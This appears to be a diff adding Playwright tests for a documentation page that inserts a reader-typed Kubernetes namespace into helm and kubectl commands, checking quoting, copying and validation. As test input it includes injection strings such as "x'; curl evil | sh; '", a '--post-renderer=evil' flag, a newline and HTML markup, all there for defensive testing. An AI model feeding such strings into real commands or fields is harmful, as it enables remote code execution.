@@ -1,0 +1,96 @@
+import {expect, type Page} from '@playwright/test';
+import {test} from './reader.js';
+
+const selectors = 'docs/selectors';
+
+/** The block with the namespace, as it stands on the page. */
+const block = (page: Page) =>
+  page.locator('.theme-compat-command').filter({hasText: 'ai-gateway-helm'}).first();
+const code = (page: Page) => block(page).locator('code');
+const inline = (page: Page) => page.locator('p code').filter({hasText: 'kubectl get pods'});
+const field = (page: Page) => page.locator('.theme-compat-versions').getByLabel('Namespace');
+
+const COMMAND = [
+  'helm upgrade aieg oci://docker.io/envoyproxy/ai-gateway-helm \\',
+  '  --version v1.1.0 \\',
+  '  -n ',
+].join('\n');
+
+/** The command with a namespace stands on the page. */
+async function expectCommand(page: Page, namespace: string): Promise<void> {
+  await expect(code(page).locator('.token-line').nth(2)).toHaveText(`  -n ${namespace}`);
+}
+
+test('free text that a reader types is in every command, and copied as seen', async ({
+  context,
+  page,
+}) => {
+  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
+  await page.goto(selectors);
+  await expectCommand(page, 'envoy-ai-gateway-system');
+  await field(page).fill('gateways');
+  await expectCommand(page, 'gateways');
+  await expect(inline(page)).toHaveText('kubectl get pods -n gateways');
+
+  // A click on the text in the command leads to the field below it.
+  await code(page).getByText('gateways').click();
+  const below = block(page).getByLabel('Namespace');
+  await expect(below).toBeFocused();
+  await below.fill("bob's; id");
+  const quoted = `'bob'\\''s; id'`;
+  await expectCommand(page, quoted);
+  await expect(inline(page)).toHaveText(`kubectl get pods -n ${quoted}`);
+  await expect(field(page)).toHaveValue("bob's; id");
+
+  await block(page).hover();
+  await block(page)
+    .getByRole('button', {name: /copy code/i})
+    .click();
+  const copied = await page.evaluate(() => navigator.clipboard.readText());
+  expect(copied.trimEnd()).toBe(COMMAND + quoted);
+
+  await page.reload();
+  await expectCommand(page, quoted);
+  await field(page).fill('');
+  await expectCommand(page, 'envoy-ai-gateway-system');
+});
+
+test('a text that cannot stand in a command says why, and changes nothing', async ({page}) => {
+  await page.goto(selectors);
+  await field(page).fill('--all-namespaces');
+  await expect(field(page)).toHaveAttribute('aria-invalid', 'true');
+  await expect(field(page)).toHaveAccessibleDescription('It must not begin with a hyphen.');
+  await expectCommand(page, 'envoy-ai-gateway-system');
+});
+
+for (const [name, link, expected] of [
+  [
+    'a hostile text is one argument',
+    `2*****AI_GATEWAY_NAMESPACE*${encodeURIComponent("x'; curl evil | sh; '")}`,
+    `'x'\\''; curl evil | sh; '\\'''`,
+  ],
+  ['a flag is nothing', '2*****AI_GATEWAY_NAMESPACE*--post-renderer=evil', ''],
+  ['a line break is nothing', '2*****AI_GATEWAY_NAMESPACE*x%0Aid', ''],
+  ['markup is nothing', '2*****AI_GATEWAY_NAMESPACE*%3Cimg%20src%3Dx%3E', ''],
+] as const) {
+  test(`from a link, ${name}`, async ({page}) => {
+    await page.goto(`${selectors}?compat=${encodeURIComponent(link)}`);
+    await expect(field(page)).toBeEnabled();
+    await expectCommand(page, expected || 'envoy-ai-gateway-system');
+  });
+}
+
+test.describe('without JavaScript', () => {
+  test.use({javaScriptEnabled: false});
+
+  test('all commands are filled, and the fields are inert', async ({page}) => {
+    await page.goto(selectors);
+    await expectCommand(page, 'envoy-ai-gateway-system');
+    await expect(inline(page)).toHaveText('kubectl get pods -n envoy-ai-gateway-system');
+    await expect(page.locator('.theme-compat-versions')).toContainText(
+      'Commands on this page are for',
+    );
+    await expect(field(page)).toBeDisabled();
+    await expect(field(page)).toHaveValue('envoy-ai-gateway-system');
+  });
+});
